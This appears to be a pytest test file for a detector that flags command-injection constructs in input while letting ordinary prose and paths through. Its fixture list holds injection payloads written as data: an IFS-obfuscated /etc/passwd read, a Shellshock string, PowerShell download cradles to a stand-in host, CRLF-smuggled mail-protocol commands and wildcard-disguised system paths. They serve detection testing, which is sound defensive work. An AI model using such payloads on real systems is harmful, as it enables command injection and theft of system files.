"""Shell, cmd.exe, PowerShell and mail-protocol constructs, wildcard paths, and prose."""

from __future__ import annotations

import pytest

from vigil.signatures.command_syntax import MAX_GLOBS, find_construct, system_paths

PATHS = system_paths(frozenset({"cat", "ls", "uname", "whoami"}))

CONSTRUCTS = [
    ("x${IFS}cat${IFS}/etc/passwd", "shell construct"),
    ("() { :; }; echo vulnerable", "shell construct"),
    ("cmd.exe /c dir", "shell construct"),
    ("Invoke-WebRequest http://x.test/f.ps1", "PowerShell command"),
    ("(New-Object Net.WebClient).DownloadString('http://x.test')", "PowerShell command"),
    ("start-process calc", "PowerShell command"),
    ('for /f "usebackq" %v in (`whoami`) do echo %v', "cmd.exe FOR loop"),
    ("FOR %%G IN (a,b) DO (md C:\\demo\\%%G)", "cmd.exe FOR loop"),
    ("IF NOT EXIST C:\\x CMD", "cmd.exe IF statement"),
    ("if /i exist a.port echo yay", "cmd.exe IF statement"),
    ("IF %ERRORLEVEL% EQU 2 goto fail", "cmd.exe IF statement"),
    ('if not defined n1 set "n1=0"', "cmd.exe IF statement"),
    ('IF "%~1"=="/?" exit', "cmd.exe IF statement"),
    ("if a==b echo same", "cmd.exe IF statement"),
    ("IF ERRORLEVEL 1 CMD", "cmd.exe IF statement"),
    ("alias e=env&e whoami", "shell alias definition"),
    ("x;alias -g a='curl'", "shell alias definition"),
    ("{,echo,#test}", "brace expansion"),
    ("x\r\nMAIL FROM:<a@b.test>", "mail protocol command"),
    ("x\r\na001 SELECT INBOX", "mail protocol command"),
    ("x\nRETR 12\n", "mail protocol command"),
    ("/???/??t", "wildcards for /bin/cat"),
    ("/???/?s", "wildcards for /bin/ls"),
    ("/usr/bin/[u]name -a", "wildcards for /usr/bin/uname"),
    ("/etc/pas[s]wd", "wildcards for /etc/passwd"),
    ("/etc/[!q]asswd", "wildcards for /etc/passwd"),
    ("{/?s?/?i?/c?t,}", "wildcards for /usr/bin/cat"),
]

PROSE = [
    "for 10% in cash, do it",
    "for 50% in (some cases) do more",
    "if it exists, fine",
    "If not defined, the default applies",
    "if x == 1 then y",
    "alias: Bob",
    "also known as (alias) Bob",
    "{a,b}",
    "{,}",
    "Notes:\n1 Copy the file\n2 Select the option",
    "Dear team,\nData attached\nQuit smoking",
    "/api/*",
    "see /etc/* for config",
    "/home/user/*.txt",
    "What?/Why?",
    "http://example.com/search?q=a*b",
    "Invoke the spirit",
]


@pytest.mark.parametrize(("value", "reason"), CONSTRUCTS)
def test_constructs_are_found_with_their_reason(value: str, reason: str) -> None:
    found = find_construct(value, PATHS)
    assert found is not None, value
    assert found[0] == reason
    assert 0 <= found[1] < len(value)


@pytest.mark.parametrize("value", PROSE)
def test_prose_and_ordinary_paths_pass(value: str) -> None:
    assert find_construct(value, PATHS) is None


def test_system_paths_hold_commands_in_every_system_directory_and_key_files() -> None:
    lines = system_paths(frozenset({"cat"})).splitlines()
    assert "/bin/cat" in lines
    assert "/usr/local/bin/cat" in lines
    assert "/etc/passwd" in lines


def test_only_the_first_globs_are_expanded() -> None:
    decoys = " ".join(["/a?/b?"] * MAX_GLOBS)
    assert find_construct(decoys + " /???/??t", PATHS) is None
    assert find_construct("/???/??t " + decoys, PATHS) is not None


def test_a_glob_with_regex_syntax_is_read_literally() -> None:
    assert find_construct("/b(n|i)/c?t", PATHS) is None
    assert find_construct("/bin/c.?t", PATHS) is None
